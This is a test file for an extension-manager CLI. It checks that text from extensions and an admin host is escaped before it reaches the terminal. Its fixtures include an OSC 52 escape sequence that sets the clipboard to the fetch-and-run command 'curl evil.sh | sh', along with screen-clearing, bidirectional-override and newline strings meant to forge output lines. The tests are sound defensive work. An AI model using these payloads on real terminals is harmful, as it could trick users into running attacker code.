import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { packBundle } from "@annex/manifest";
import { describe, expect, it } from "vitest";
import { formatJson, terminalSafe } from "../src/format.js";
import { fakeAdminHost } from "./fake-admin-host.js";
import { run, serviceManifest, tempDir } from "./helpers.js";

const ESC = "\u001b";
/** Sets the clipboard to "curl evil.sh | sh" on terminals that allow OSC 52. */
const OSC52 = `${ESC}]52;c;${Buffer.from("curl evil.sh | sh").toString("base64")}\u0007`;
const CLEAR = `${ESC}[2J${ESC}[H`;
/** What no line printed for a terminal may hold: C0 controls but tab and newline, DEL, C1, bidirectional controls. */
// eslint-disable-next-line no-control-regex
const UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe("terminalSafe and formatJson", () => {
  it("make every control a terminal acts on visible, keeping tab, and newlines only for multi-line text", () => {
    const text = `a${OSC52}b\u009b2J\u009d0;x\u009c\u007f\r\u202eevil\u2066\u2069\tc\nd`;
    const single = terminalSafe(text);
    expect(single).toBe("a\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007b\\u009b2J\\u009d0;x\\u009c\\u007f\\r\\u202eevil\\u2066\\u2069\tc\\nd");
    expect(terminalSafe(text, { multiline: true })).toBe(single.replace("\\n", "\n"));
    expect(terminalSafe("plain text, ünïcödé, 日本語, emoji 🙂")).toBe("plain text, ünïcödé, 日本語, emoji 🙂");
  });

  it("keep JSON valid and its values unchanged, escaping the C1 and bidirectional controls JSON.stringify leaves raw", () => {
    const value = { name: "x\u009b2J\u202e", nested: [`${ESC}[31m`, "\u007f"], plain: "日本語" };
    const json = formatJson(value);
    expect(json).not.toMatch(UNSAFE);
    expect(json).toContain('"x\\u009b2J\\u202e"');
    expect(JSON.parse(json)).toEqual(value);
  });
});

describe("text from extensions and the host reaches the terminal escaped", () => {
  it("annex admin run prints a job's error message on one line, its escape sequences made visible", async () => {
    const cwd = await tempDir();
    const host = await fakeAdminHost(({ method, path }) => {
      if (method === "GET" && path === "/jobs") return { json: [{ installId: "i1", extensionId: "acme.evil", name: "rollup", cron: "* * * * *", timezone: "UTC", nextRunAt: null, running: false }] };
      if (method === "POST" && path === "/jobs/i1/rollup/run") {
        // The reference host passes the handler's own error text through.
        const message = `boom${OSC52}${CLEAR}\nran acme.evil rollup: ok in 3 ms`;
        return { json: { runId: "r1", version: "1.0.0", trigger: "manual", actor: "u-ada", scheduledAt: "", startedAt: "", finishedAt: "", outcome: "error", durationMs: 1, error: { code: "E_HANDLER_ERROR", message } } };
      }
      return undefined;
    });
    const result = await run(cwd, "admin", "run", "acme.evil", "rollup", "--host", host.url, "--token", "annex_t");
    expect(result.code).toBe(1);
    expect(result.stdout).not.toMatch(UNSAFE);
    expect(result.stdout).toBe(
      "ran acme.evil rollup: error in 1 ms (run r1): E_HANDLER_ERROR: boom\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007\\u001b[2J\\u001b[H\\nran acme.evil rollup: ok in 3 ms\n",
    );
  });

  it("a host's error message is printed escaped and on one line, codes too", async () => {
    const cwd = await tempDir();
    const host = await fakeAdminHost(({ method, path }) =>
      method === "POST" && path === "/installs/acme.x/disable" ? { status: 409, json: { code: `E_ILLEGAL_TRANSITION${ESC}[8m`, message: `nope${CLEAR}\nE_OK: all fine\u009b2K` } } : undefined,
    );
    const result = await run(cwd, "admin", "disable", "acme.x", "--host", host.url, "--token", "annex_t");
    expect(result.code).toBe(1);
    expect(result.stderr).not.toMatch(UNSAFE);
    expect(result.stderr).toBe("E_ILLEGAL_TRANSITION\\u001b[8m: nope\\u001b[2J\\u001b[H\\nE_OK: all fine\\u009b2K\n");
  });

  it("annex admin install escapes the manifest's reasons in the consent list, and the install's last error", async () => {
    const cwd = await tempDir();
    const manifest = serviceManifest({
      runtime: { class: "service", entry: "server/index.js" },
      capabilities: [{ name: "log", reason: `Logs.\r\u202e  why: nothing else\n  user.read` }],
    });
    const host = await fakeAdminHost(({ method, path, body }) => {
      if (method === "GET" && path === "/extensions/acme.hello/versions") return { json: [{ manifest, contentHash: "sha256:00" }] };
      if (method === "POST" && path === "/installs") {
        const { grants } = JSON.parse(body.toString()) as { grants: unknown };
        return { status: 201, json: { extensionId: "acme.hello", version: "1.0.0", state: "failed", grants, lastError: { code: "E_ACTIVATE", message: `init threw${OSC52}\nall good` } } };
      }
      return undefined;
    });
    const asked = await run(cwd, "admin", "install", "acme.hello", "--host", host.url, "--token", "annex_t");
    expect(asked.code).toBe(1);
    expect(asked.stdout).toBe("acme.hello@1.0.0 asks for this capability:\n  log\n      why: Logs.\\r\\u202e  why: nothing else\\n  user.read\n");

    const installed = await run(cwd, "admin", "install", "acme.hello", "--accept", "log", "--host", host.url, "--token", "annex_t");
    expect(installed.code, installed.stderr).toBe(0);
    expect(installed.stdout).not.toMatch(UNSAFE);
    expect(installed.stdout.split("\n")).toContain("last error: E_ACTIVATE: init threw\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007\\nall good");
  });

  it("--json output stays valid JSON without raw C1 or bidirectional controls, and tables escape their cells", async () => {
    const cwd = await tempDir();
    const extensions = [{ id: "acme.hello", publisher: "acme", latestVersion: "1.0.0\u009b2J\u202e" }];
    const installs = [{ extensionId: "acme.hello", version: "1.0.0", state: `active${ESC}[8m\nforged`, grants: [] }];
    const host = await fakeAdminHost(({ method, path }) => {
      if (method === "GET" && path === "/extensions") return { json: extensions };
      if (method === "GET" && path === "/installs") return { json: installs };
      return undefined;
    });
    const json = await run(cwd, "admin", "list", "--json", "--host", host.url, "--token", "annex_t");
    expect(json.code, json.stderr).toBe(0);
    expect(json.stdout).not.toMatch(UNSAFE);
    expect(JSON.parse(json.stdout)).toEqual({ tenant: "acme", extensions, installs });

    const table = await run(cwd, "admin", "list", "--host", host.url, "--token", "annex_t");
    expect(table.stdout).not.toMatch(UNSAFE);
    expect(table.stdout.split("\n")[2]).toBe("acme.hello  1.0.0      active\\u001b[8m\\nforged  1.0.0\\u009b2J\\u202e");
  });

  it("annex inspect keeps each of a bundle's fields on its line: a line break or CR cannot forge or hide lines", async () => {
    const cwd = await tempDir();
    const manifest = serviceManifest({
      runtime: { class: "service", entry: "server/index.js" },
      description: "Says hello.\npublisher: acme (verified first-party)\ncapabilities (0):\n  none",
      capabilities: [{ name: "http.fetch", hosts: ["evil.example.com"], reason: "Writes logs.\r    why: (nothing else)                    " }],
    });
    const encode = (text: string) => new TextEncoder().encode(text);
    await writeFile(join(cwd, "b.annex"), await packBundle({ "annex.json": encode(JSON.stringify(manifest)), "server/index.js": encode("export function hello() {}\n") }));
    const result = await run(cwd, "inspect", "b.annex");
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).not.toContain("\r");
    const lines = result.stdout.split("\n");
    expect(lines[1]).toBe("  Says hello.\\npublisher: acme (verified first-party)\\ncapabilities (0):\\n  none");
    expect(lines.filter((line) => line.startsWith("publisher:"))).toEqual(["publisher: acme"]);
    expect(lines).toContain("    why: Writes logs.\\r    why: (nothing else)");
  });
});
